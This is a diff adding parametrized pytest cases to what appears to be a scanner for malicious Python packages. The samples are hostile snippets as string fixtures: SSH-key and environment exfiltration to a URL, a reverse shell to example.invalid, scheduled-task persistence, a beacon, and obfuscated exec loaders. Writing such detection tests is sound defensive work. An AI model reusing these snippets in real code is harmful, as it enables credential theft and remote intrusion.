@@ -602,3 +602,64 @@ def test_benign_subprocess_and_network_stay_quiet() -> None:
         "def run(cmd):\n    return subprocess.run(cmd, check=True)\n"
     )
     assert rules_of(src) == set()
+
+
+XOR_SRC = "".join(f"\\x{c ^ 7:02x}" for c in INERT.encode())
+MORE: dict[str, tuple[str, str]] = {
+    "environ-as-string": (
+        f"import os, requests\nrequests.post({URL!r}, data={{'e': str(os.environ)}})\n",
+        "malicious",
+    ),
+    "shell-cat-key": (
+        "import subprocess, requests\ndef f():\n"
+        "    k = subprocess.check_output('cat ~/.ssh/id_rsa', shell=True)\n"
+        f"    requests.post({URL!r}, data=k)\n",
+        "malicious",
+    ),
+    "import-chain": (
+        "getattr(__import__('importlib').import_module('o'+'s'), 'sys'+'tem')('id')\n",
+        "suspicious",
+    ),
+    "dunder-imports": (
+        "__import__('builtins').exec(__import__('zlib').decompress("
+        f"__import__('base64').b64decode({base64.b64encode(ZLIB).decode()!r})))\n",
+        "malicious",
+    ),
+    "popen-on-socket": (
+        "import socket, subprocess\ns = socket.create_connection(('example.invalid', 4444))\n"
+        "subprocess.Popen(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno())\n",
+        "malicious",
+    ),
+    "schtasks": (
+        "import subprocess, sys\nsubprocess.run(['schtasks', '/create', '/tn', 'u', '/tr', sys.executable])\n",
+        "malicious",
+    ),
+    "thread-beacon": (
+        "import threading, platform, requests\ndef b():\n"
+        f"    requests.get({URL!r}, params={{'h': platform.node()}})\nthreading.Thread(target=b).start()\n",
+        "suspicious",
+    ),
+    "xor-comprehension": (
+        f"k = 7\ndata = bytes([b ^ k for b in b'{XOR_SRC}'])\nexec(data)\n",
+        "malicious",
+    ),
+    "method-exfil": (
+        "import os, requests\nclass C:\n    def go(self):\n"
+        "        data = open(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')).read()\n"
+        f"        requests.post({URL!r}, json={{'k': data}})\n",
+        "malicious",
+    ),
+    "benign-comprehensions": (
+        "NAMES = [n.upper() for n in ('a', 'b')]\nCODES = bytes([c + 1 for c in b'abc'])\n",
+        "clean",
+    ),
+}
+
+
+@pytest.mark.parametrize("name", list(MORE))
+def test_more_techniques(name: str) -> None:
+    from pipwarden.scan import verdict
+
+    src, expected = MORE[name]
+    found = analyse_member(FileContext("pkg/__init__.py", "wheel", True), src.encode())
+    assert verdict(found) == expected, [(f.rule, f.severity.label) for f in found]
